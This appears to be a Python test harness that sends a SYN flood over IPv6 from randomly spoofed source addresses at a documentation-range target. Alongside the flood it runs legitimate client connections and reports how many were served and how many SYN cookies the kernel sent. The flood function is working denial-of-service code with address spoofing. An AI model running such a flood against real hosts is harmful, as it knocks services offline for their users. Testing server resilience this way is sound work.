"""Connections over IPv6 that are never finished, from many addresses, and honest clients meanwhile:
syn_flood_ipv6.py PORT SECONDS HELLO"""
import json
import os
import random
import socket
import struct
import sys
import time

port, seconds, hello = int(sys.argv[1]), float(sys.argv[2]), sys.argv[3]
TARGET = "2001:db8:9::1"


def flood():
    """Only the first segment of each handshake: the answers reach nobody."""
    raw = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_TCP)
    # The kernel fills the checksum in, 16 bytes into the header.
    raw.setsockopt(socket.IPPROTO_IPV6, 7, 16)
    sent, end = 0, time.monotonic() + seconds
    while time.monotonic() < end:
        source = socket.inet_pton(socket.AF_INET6, f"2001:db8:1:{random.getrandbits(16):x}::{random.getrandbits(16):x}")
        header = struct.pack("!HHIIBBHHH", random.randint(1024, 65535), port, random.getrandbits(32), 0, 5 << 4, 2, 65535, 0, 0)
        info = struct.pack("@16sI", source, 0)
        try:
            raw.sendmsg([header], [(socket.IPPROTO_IPV6, socket.IPV6_PKTINFO, info)], 0, (TARGET, 0, 0, 0))
            sent += 1
        except OSError:
            pass
    return sent


def exchange(index):
    s = socket.socket(socket.AF_INET6)
    s.settimeout(5)
    s.bind((f"2001:db8:2::{index + 1:x}", 0, 0, 0))
    s.connect((TARGET, port, 0, 0))
    s.sendall((hello + "\n").encode())
    welcomed = s.recv(512).startswith(b"WELCOME")
    s.close()
    return welcomed


reading, writing = os.pipe()
child = os.fork()
if child == 0:
    os.write(writing, str(flood()).encode())
    os._exit(0)
time.sleep(0.5)
served, asked, most = 0, 0, 0.0
while os.waitpid(child, os.WNOHANG) == (0, 0):
    began = time.monotonic()
    try:
        served += exchange(asked)
    except OSError:
        pass
    most = max(most, time.monotonic() - began)
    asked += 1
    time.sleep(0.1)
with open("/proc/net/netstat") as table:
    names, values = [line.split() for line in table if line.startswith("TcpExt:")][:2]
cookies = int(dict(zip(names, values))["SyncookiesSent"])
print(json.dumps({"cookies": cookies, "sent": int(os.read(reading, 32)), "served": served, "asked": asked, "most": round(most * 1000)}))
